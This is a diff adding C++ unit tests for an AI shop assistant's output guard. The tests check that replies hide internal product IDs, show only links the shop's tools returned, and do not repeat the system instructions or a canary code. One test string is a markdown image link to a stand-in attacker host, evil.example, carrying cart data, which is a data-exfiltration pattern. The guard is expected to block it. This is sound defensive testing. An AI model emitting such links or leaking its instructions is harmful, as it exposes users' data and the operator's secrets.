@@ -80,5 +80,52 @@ TEST_F(OutputGuard, CountsTheWholeReplyAndForgetsWhatWasNotSaid) {
   EXPECT_TRUE(gate.judge(piece).empty());
 }
 
+Message result(const std::string& content) {
+  Message message;
+  message.role = Role::kTool;
+  message.result = {CallId("c1"), ToolOutcome::kOk, content, {}};
+  return message;
+}
+
+TEST_F(OutputGuard, KeepsTheShopsOwnIdsToItself) {
+  Told told;
+  told.add(result(R"({"products":[{"id":"gid://1/P-4711","title":"Aero AE-1300 lamp","variants":[{"id":"var_88121","sku":"SKU-7788-B"}]}]})"));
+  const auto rule = [&](const std::string& piece) {
+    const auto violation = OutputRules(rules_, {}).check(piece, {}, 0, &told);
+    return violation ? violation->rule : "";
+  };
+  EXPECT_EQ(rule("That is var_88121."), "internals");
+  EXPECT_EQ(rule("The Aero AE-1300, article SKU-7788-B, with 16-bit colour."), "");
+  rules_.hide_internals = false;
+  EXPECT_EQ(rule("That is var_88121."), "");
+}
+
+TEST_F(OutputGuard, TellsNoAddressThatTheShopDidNotTell) {
+  Told told;
+  told.add(result(R"({"checkout_url":"https://shop.example/pay?cart=1","text":"See https://shop.example/returns."})"));
+  const auto rule = [&](const std::string& piece) {
+    const auto violation = OutputRules(rules_, {}).check(piece, {}, 0, &told);
+    return violation ? violation->rule : "";
+  };
+  EXPECT_EQ(rule("Pay at https://shop.example/pay?cart=1."), "");
+  EXPECT_EQ(rule("More at https://shop.example/returns."), "");
+  EXPECT_EQ(rule("![x](https://evil.example/?q=cart)"), "link");
+  EXPECT_EQ(rule("https://shop.example/returns?who=ann"), "link");
+}
+
+TEST_F(OutputGuard, KeepsTheInstructionsToItself) {
+  const OutputRules rules(rules_, {}, {"Facts come from tool results, never from memory. The staff code is zx81canary."});
+  EXPECT_TRUE(rules.check("I was told: facts come from tool results, never from memory!", {}, 0));
+  EXPECT_TRUE(rules.check("Use ZX81CANARY.", {}, 0));
+  EXPECT_FALSE(rules.check("Facts about the lamp come from its maker.", {}, 0));
+}
+
+TEST_F(OutputGuard, HoldsBackWhatItCannotReadUnlessThePlaybookSaysOtherwise) {
+  EXPECT_EQ(rule("lamp\xFF"), "output");
+  EXPECT_EQ(rule("one\r\ntwo"), "");
+  rules_.say_on_error = OnError::kAllow;
+  EXPECT_EQ(rule("lamp\xFF"), "");
+}
+
 }  // namespace
 }  // namespace floorwalker::guardrails
